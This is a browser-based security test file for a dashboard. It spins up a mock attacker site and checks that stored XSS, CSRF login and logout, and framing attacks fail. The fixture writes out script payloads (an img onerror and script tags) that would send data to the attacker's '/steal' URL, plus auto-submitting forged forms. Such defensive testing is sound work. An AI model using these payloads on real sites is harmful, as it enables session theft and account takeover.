"""The dashboard under attack in a real headless Chromium (issue 15, points 1 and 5).

A real `sva-hq serve` on 127.0.0.1 and an attacker's site on `localhost` (another site for
the browser) that records every request it gets. A manager is logged in, then:

* stored XSS: an SVG and an HTML "photo" (and a finding text full of markup) whose scripts
  would read /dashboard/caps with the manager's session and send it to the attacker — opened
  as the audit page and as the photo itself: no script runs, nothing reaches the attacker;
* CSRF: the attacker's pages post the login form (with the attacker's own account) and the
  logout form to HQ: neither takes effect, the manager stays who they are, logged in;
* framing: the attacker's page frames the dashboard: the browser refuses to show it.
"""
from __future__ import annotations

import os
import threading
import time
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

import pytest

from tests.hq.conftest import HQ, free_port
from tests.hq.plant import html_payload, plant_photo, svg_payload
from tests.hq.web import PASSWORD, web_user

from .browser import browser, chromium_available, login

pytestmark = pytest.mark.skipif(not chromium_available() and not os.environ.get("CI"),
                                reason="needs Debian chromium + chromium-driver (make apt)")


class Attacker:
    """The attacker's site: serves `pages` by path and records every request."""

    def __init__(self):
        self.port = free_port()
        self.base = f"http://localhost:{self.port}"
        self.pages: dict[str, str] = {}
        self.hits: list[str] = []
        pages, hits = self.pages, self.hits

        class Handler(BaseHTTPRequestHandler):
            def do_GET(self):
                hits.append(self.path)
                body = pages.get(self.path.split("?")[0], "").encode()
                self.send_response(200)
                self.send_header("Content-Type", "text/html")
                self.send_header("Content-Length", str(len(body)))
                self.end_headers()
                self.wfile.write(body)

            def log_message(self, *args):
                pass

        self.server = ThreadingHTTPServer(("127.0.0.1", self.port), Handler)
        threading.Thread(target=self.server.serve_forever, daemon=True).start()

    def stolen(self) -> list[str]:
        return [h for h in self.hits if h.startswith("/steal")]

    def close(self):
        self.server.shutdown()
        self.server.server_close()


def autopost(action: str, fields: dict) -> str:
    inputs = "".join(f'<input type="hidden" name="{k}" value="{v}">' for k, v in fields.items())
    return (f'<html><body><form id="f" method="post" action="{action}">{inputs}</form>'
            '<script>document.getElementById("f").submit();</script></body></html>')


def signed_in_as(driver, base: str) -> str | None:
    from selenium.webdriver.common.by import By
    driver.get(base + "/dashboard/caps")
    names = driver.find_elements(By.CSS_SELECTOR, ".who b")
    return names[0].text if names else None


@pytest.fixture(scope="module")
def site(tmp_path_factory):
    """HQ with two hostile "photos" and a finding full of markup; the attacker's site; a
    manager (mgr.sato) and the attacker's own dashboard account (mallory)."""
    folder = tmp_path_factory.mktemp("attacks")
    server = HQ(folder / "hq")
    server.master_data(folder)
    server.start()
    attacker = Attacker()
    try:
        steal = attacker.base + "/steal"
        token, _ = server.token_for("device-owner", role="manager")
        markup = (f'<img src=x onerror="new Image().src=\'{steal}?text=1\'">'
                  f'<script>new Image().src="{steal}?text=2"</script>')
        planted = [plant_photo(server, token, svg_payload(steal), "image/svg+xml",
                               observed=markup)[:2],
                   plant_photo(server, token, html_payload(steal), "text/html",
                               observed=markup)[:2]]
        web_user(server, "mgr.sato")
        web_user(server, "mallory", role="auditor")
        attacker.pages["/login-csrf"] = autopost(server.url + "/dashboard/login", {
            "name": "mallory", "password": PASSWORD, "next": "/dashboard/"})
        attacker.pages["/logout-csrf"] = autopost(server.url + "/dashboard/logout", {})
        attacker.pages["/frame"] = (f'<html><body><iframe id="hq" width="800" height="600" '
                                    f'src="{server.url}/dashboard/login"></iframe></body></html>')
        yield server, attacker, planted
    finally:
        attacker.close()
        server.stop()


def test_stored_scripts_do_not_run(site):
    from selenium.webdriver.common.by import By
    server, attacker, planted = site
    with browser() as driver:
        login(driver, server.url, "mgr.sato", PASSWORD)
        for audit_id, sha in planted:
            for path in (f"/dashboard/audits/{audit_id}",
                         f"/dashboard/audits/{audit_id}/photos/{sha}"):
                driver.get(server.url + path)
                time.sleep(0.7)                       # time for a script to run and send
                assert driver.title != "XSS", path
        driver.get(server.url + f"/dashboard/audits/{planted[0][0]}")
        shown = " ".join(p.text for p in driver.find_elements(By.CSS_SELECTOR, ".finding p"))
        assert "<img src=x onerror=" in shown          # the markup is shown as text only
    assert attacker.stolen() == []


def test_another_site_cannot_log_the_manager_in_or_out(site):
    server, attacker, _ = site
    with browser() as driver:
        login(driver, server.url, "mgr.sato", PASSWORD)
        driver.get(attacker.base + "/login-csrf")        # log the manager in as mallory
        time.sleep(1.0)
        assert signed_in_as(driver, server.url) == "mgr.sato"
        driver.get(attacker.base + "/logout-csrf")       # log the manager out
        time.sleep(1.0)
        assert signed_in_as(driver, server.url) == "mgr.sato"


def test_another_site_cannot_frame_the_dashboard(site):
    from selenium.webdriver.common.by import By
    server, attacker, _ = site
    with browser() as driver:
        driver.get(attacker.base + "/frame")
        time.sleep(1.0)
        driver.switch_to.frame(driver.find_element(By.ID, "hq"))
        framed = driver.find_elements(By.NAME, "password")
        driver.switch_to.default_content()
    assert framed == []                               # the login form did not render inside
